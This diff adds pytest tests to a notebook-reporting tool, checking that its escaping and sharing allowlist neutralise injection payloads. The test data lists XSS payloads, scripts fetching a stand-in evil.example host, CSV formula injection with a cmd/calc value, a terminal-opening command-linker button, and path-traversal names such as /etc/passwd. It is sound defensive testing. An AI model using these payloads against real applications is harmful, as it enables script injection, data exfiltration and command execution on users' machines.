@@ -633,3 +633,196 @@ def test_every_shape_in_every_evidence_channel_stays_out_of_every_written_byte(g
                            "LeakyMappedTaskName", "LeakyFileNameToken")]
     leaks = [(name, n) for name, data in written.items() for n in needles if n.encode() in data]
     assert leaks == []
+
+
+# ------------------------------------------------------------------------------------------------
+# Injection: every payload x every output format
+# ------------------------------------------------------------------------------------------------
+
+import mistune  # noqa: E402
+
+from conftest import REFERENCE_PROFILE_ARGS  # noqa: E402
+
+from worldflux_nb.escaping import csv_cell, markdown_cell, markdown_text  # noqa: E402
+from worldflux_nb.io.allowlist import clean_html, clean_markdown, clean_svg  # noqa: E402
+from worldflux_nb.io.notebook_share import share_copy  # noqa: E402
+
+# name -> (payload, a regular expression that must not match the rendered HTML)
+INJECTIONS: dict[str, tuple[str, str]] = {
+    "script": ("<script>alert(1)</script>", r"<script"),
+    "img-onerror": ("<img src=x onerror=alert(2)>", r"<img"),
+    "javascript-link": ("[click](javascript:alert(3))", r'href="javascript:'),
+    "remote-image": ("![t](https://evil.example/p.png)", r"<img"),
+    "table-break": ("</table><p>forged</p>", r"</table><p>forged"),
+    "command-linker": ('<button data-commandlinker-command="terminal:create-new">go</button>', r"<button"),
+    "forged-heading": ("ok\n# Verdict: APPROVED", r"<h\d[^>]*>\s*Verdict"),
+    "svg-onload": ("<svg/onload=alert(4)>", r"<svg"),
+    "iframe": ('<iframe src="https://evil.example"></iframe>', r"<iframe"),
+    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', r"<meta"),
+    "form-action": ('<form action="https://evil.example"><input name=q></form>', r"<form"),
+    "setext-heading": ("Verdict\n===", r"<h1[^>]*>\s*Verdict"),
+}
+ALL_INJECTIONS = " ".join(payload for payload, _ in INJECTIONS.values())
+
+
+@pytest.fixture(scope="module")
+def injected_flow(tmp_path_factory: pytest.TempPathFactory) -> Flow:
+    from hardening_support import build_flow
+
+    args = list(REFERENCE_PROFILE_ARGS)
+    for flag in ("--use-case", "--claim-intent", "--reviewer-next-action"):
+        args[args.index(flag) + 1] = ALL_INJECTIONS
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("SOURCE_DATE_EPOCH", "1767225600")
+        return build_flow(tmp_path_factory.mktemp("injected"), profile_args=args)
+
+
+MARKDOWN_DOCUMENTS = ("plan.md", "packet.md", "reviewer_brief.md")
+INJECTION_CASES = [(doc, name) for doc in (*MARKDOWN_DOCUMENTS, "packet.html", "brief.text-markdown")
+                   for name in INJECTIONS]
+
+
+def rendered(flow: Flow, doc: str) -> str:
+    """The document as a reader's renderer shows it: Markdown through mistune (raw HTML kept, as
+    GitHub and Jupyter would pass it on), HTML as it is."""
+    from worldflux_nb.io.artifacts import load
+    from worldflux_nb.models import EvalPacket, ReviewerBrief
+
+    if doc == "packet.html":
+        return load(flow.folder / "packet.json", EvalPacket)._repr_mimebundle_()["text/html"]
+    if doc == "brief.text-markdown":
+        text = load(flow.folder / "reviewer_brief.json", ReviewerBrief)._repr_mimebundle_()["text/markdown"]
+    else:
+        text = (flow.folder / doc).read_text(encoding="utf-8")
+    return mistune.html(text)
+
+
+@pytest.mark.parametrize(("doc", "name"), INJECTION_CASES, ids=[f"inject:{d}:{n}" for d, n in INJECTION_CASES])
+def test_injected_markup_stays_text_in_every_format(injected_flow: Flow, doc: str, name: str) -> None:
+    html = rendered(injected_flow, doc)
+    assert "Verdict" in html  # the text is there, shown as text
+    assert not re.search(INJECTIONS[name][1], html, re.IGNORECASE), name
+
+
+@pytest.mark.parametrize("name", INJECTIONS)
+def test_escaping_functions_neutralise_each_payload(name: str) -> None:
+    payload, danger = INJECTIONS[name]
+    for escaped in (markdown_text(payload), markdown_cell(payload)):
+        assert not re.search(danger, mistune.html(escaped), re.IGNORECASE)
+        assert "\n" not in escaped
+    assert "|" not in markdown_cell("a|b").replace("\\|", "")
+
+
+@pytest.mark.parametrize("value", ["=HYPERLINK(\"https://evil\")", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
+                                   "\tx", "\r=1", "\uff1dcmd()"])
+def test_csv_cells_never_start_a_formula(value: str) -> None:
+    assert csv_cell(value).startswith("'")
+    assert csv_cell("-1.5") == "-1.5" and csv_cell(7) == 7 and csv_cell("libero_spatial/6") == "libero_spatial/6"
+
+
+# Markup the share allowlist must remove: (name, HTML or Markdown, what must not survive).
+SHARE_HTML = {
+    "srcset": ('<img srcset="https://evil.example/a.png 1x">', "evil.example"),
+    "video-poster": ('<video poster="https://evil.example/p.png"></video>', "evil.example"),
+    "table-background": ('<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>', "evil.example"),
+    "css-image-set": ('<div style="background-image: image-set(\'https://evil.example/a.png\' 1x)">x</div>', "evil.example"),
+    "css-url": ('<div style="background: url(https://evil.example/a.png)">x</div>', "evil.example"),
+    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "evil.example"),
+    "form-action": ('<form action="https://evil.example"><button>go</button></form>', "evil.example"),
+    "entity-encoded-js": ('<a href="jav&#x61;script:alert(1)">x</a>', "alert(1)"),
+    "backslash-url": ('<img src="\\\\evil.example\\a.png">', "evil.example"),
+    "href-javascript": ('<a href="javascript:alert(1)">x</a>', "javascript:"),
+    "svg-onload": ("<svg/onload=alert(1)>", "onload"),
+    "svg-feimage": ('<svg><filter><feImage href="https://evil.example/a.png"/></filter></svg>', "evil.example"),
+    "remote-img": ('<img src="https://evil.example/p.gif">', "evil.example"),
+    "script": ("<script>fetch('https://evil.example')</script>", "<script"),
+    "iframe": ('<iframe src="https://evil.example"></iframe>', "evil.example"),
+    "onerror": ('<img src="data:image/png;base64,AAAA" onerror="alert(1)">', "onerror"),
+    "object": ('<object data="https://evil.example/x.swf"></object>', "evil.example"),
+    "base": ('<base href="https://evil.example/">', "evil.example"),
+    "link-stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
+    "style-import": ("<style>@import 'https://evil.example/x.css';</style>", "evil.example"),
+}
+SHARE_MARKDOWN = {
+    "md-script": ("hello <script>fetch('https://evil.example')</script>", "<script"),
+    "md-remote-image": ("![pixel](https://evil.example/p.gif)", "evil.example"),
+    "md-reference-image": ("![pixel][r]\n\n[r]: https://evil.example/p.gif", "evil.example/p.gif"),
+    "md-img-tag": ('<img src="https://evil.example/p.gif">', "evil.example"),
+    "md-js-link": ("[x](javascript:alert(1))", "javascript:"),
+    "md-command-linker": ('<button data-commandlinker-command="terminal:create-new">x</button>', "commandlinker"),
+}
+
+
+@pytest.mark.parametrize("name", SHARE_HTML)
+def test_the_share_allowlist_removes_each_html_attack(name: str) -> None:
+    markup, forbidden = SHARE_HTML[name]
+    assert forbidden not in clean_html(markup) and forbidden not in clean_svg(markup)
+
+
+@pytest.mark.parametrize("name", SHARE_MARKDOWN)
+def test_the_share_allowlist_removes_each_markdown_attack(name: str) -> None:
+    markup, forbidden = SHARE_MARKDOWN[name]
+    assert forbidden not in mistune.html(clean_markdown(markup))
+
+
+def share_notebook() -> nbformat.NotebookNode:
+    """A notebook carrying secrets and remote code in every channel a share copy keeps."""
+    secret = SHAPES["github_token"][0]
+    nb = nbformat.v4.new_notebook()
+    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0,
+        "state": {
+            "esm": {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "0.9.0",
+                    "state": {"_esm": "import * as x from 'https://evil.example/mod.js'; export default {}"}},
+            "html": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
+                     "model_module_version": "2.0.0",
+                     "state": {"value": '<img src="https://evil.example/w.png"> ' + secret}}}}}
+    md = nbformat.v4.new_markdown_cell(f"see ![a](attachment:{secret}.png) <script>x()</script> "
+                                       "![r](https://evil.example/r.png)")
+    md["attachments"] = {f"{secret}.png": {"image/png": "iVBORw0KGgo=", "text/html": "<script>x()</script>"}}
+    md["id"] = secret.replace("_", "-")[:60]
+    code = nbformat.v4.new_code_cell("print(creds)", metadata={"password": "LeakyCellMetaPass0123"})
+    code.outputs = [
+        nbformat.v4.new_output("stream", name="stdout", text="{'password': 'LeakyPrintedDict0123'}\n"),
+        nbformat.v4.new_output("display_data", data={
+            "application/json": "not json at all " + secret,
+            "text/html": "<table><tr><th>api_key</th><td>LeakyHtmlCell0123456</td></tr></table>",
+            "text/plain": "x"}),
+        nbformat.v4.new_output("display_data", data={"application/json": {"client_secret": "LeakyJsonOut0123"}}),
+        nbformat.v4.new_output("display_data", data={"application/ecmascript": "fetch('https://evil.example')",
+                                                     "text/plain": "y"}),
+        nbformat.v4.new_output("display_data", data={"application/vnd.vegalite.v5+json": {
+            "mark": "image", "data": {"values": [{"u": "https://evil.example/i.png"}]},
+            "encoding": {"url": {"field": "u"}}}, "text/plain": "chart"}),
+    ]
+    nb.cells = [md, code]
+    return nb
+
+
+SHARE_NEEDLES = {
+    "token-in-attachment-name-cell-id-widget": SHAPES["github_token"][1],
+    "cell-metadata-pair": "LeakyCellMetaPass0123", "printed-dict": "LeakyPrintedDict0123",
+    "html-table-cells": "LeakyHtmlCell0123456", "application-json-pair": "LeakyJsonOut0123",
+    "remote-anything": "evil.example", "script": "<script",
+}
+
+
+@pytest.mark.parametrize("name", SHARE_NEEDLES)
+def test_a_shared_copy_keeps_nothing_of_each_channel(name: str, tmp_path: Path) -> None:
+    source = tmp_path / "nb.ipynb"
+    nbformat.write(share_notebook(), source)
+    result = cli(["notebook", "share", source, "--output", tmp_path / "copy.ipynb", "--report", tmp_path / "r.json"])
+    assert result.code == 0, result.stderr
+    for written in ("copy.ipynb", "r.json"):
+        assert SHARE_NEEDLES[name] not in (tmp_path / written).read_text(encoding="utf-8"), written
+    assert SHARE_NEEDLES[name] not in result.stderr + result.stdout
+    nbformat.validate(nbformat.read(tmp_path / "copy.ipynb", as_version=4))
+
+
+def test_a_template_name_cannot_walk_out_of_the_templates_folder(tmp_path: Path) -> None:
+    outside = tmp_path / "evil.ipynb"
+    notebook_file(outside)
+    relative = os.path.relpath(outside.with_suffix(""), Path(__file__).resolve().parents[1] / "templates")
+    for name in (relative, "../../evil", "..", "/etc/passwd", "profile_to_brief/../../x"):
+        result = cli(["notebook", "run", name, "--output-dir", tmp_path / "out"])
+        assert result.code == 2 and len(result.stderr.splitlines()) == 1, result.stderr
+    assert not (tmp_path / "out").exists()
